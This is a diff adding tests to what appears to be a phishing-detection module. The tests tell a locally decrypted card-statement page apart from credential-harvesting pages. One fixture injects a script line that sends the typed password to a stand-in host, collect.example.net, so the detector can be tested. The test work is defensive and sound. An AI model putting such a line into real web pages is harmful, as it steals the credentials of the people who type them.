@@ -217,3 +217,28 @@ def test_pdf_text_reads_the_strings_of_the_text_operators_in_flate_page_content(
 
     assert text.splitlines() == ["Call us at +1 (855) 947-3108", "Refund desk"]
     assert documents.pdf_text(b"not a pdf") == ""
+
+
+def _secure_statement(extra_script: str = "", maxlength: str = ' maxlength="6"') -> str:
+    blob = "+\n".join('"' + "Qk1YbjJ4c0pQa3ZyWm1UcnNxT3pYbWRsYVpUcnNxT3pYbWRsYVpUcnNxT3pYbWRs"[i % 7:] + "A" * 40 + '"'
+                      for i in range(30))
+    return ('<html><body><p>Card statement, secure mail. Enter your date of birth (6 digits).</p>'
+            f'<form onsubmit="return dec();"><input type="password" id="pw"{maxlength} size="10">'
+            '<input type="submit" value="OK"></form>'
+            f'<script>var enc={blob};\nfunction dec(){{var k=document.getElementById("pw").value;'
+            f'document.open();document.write(SecuMail.decrypt(enc,k));document.close();{extra_script}return false;}}</script>'
+            '</body></html>')
+
+
+def test_a_statement_decrypted_in_place_with_a_birth_date_is_no_credential_form():
+    # Korean and Japanese card issuers send statements this way: nothing on the page can send the PIN anywhere.
+    assert documents.local_decryption_envelope(_secure_statement())
+    assert not documents.html_features(_secure_statement()).credential_form
+
+
+def test_the_same_page_that_sends_what_is_typed_or_takes_a_whole_password_is_a_credential_form():
+    sending = _secure_statement('fetch("https://collect.example.net/k?="+k);')
+    whole_password = _secure_statement(maxlength="")
+    for page in (sending, whole_password):
+        assert not documents.local_decryption_envelope(page)
+        assert documents.html_features(page).credential_form
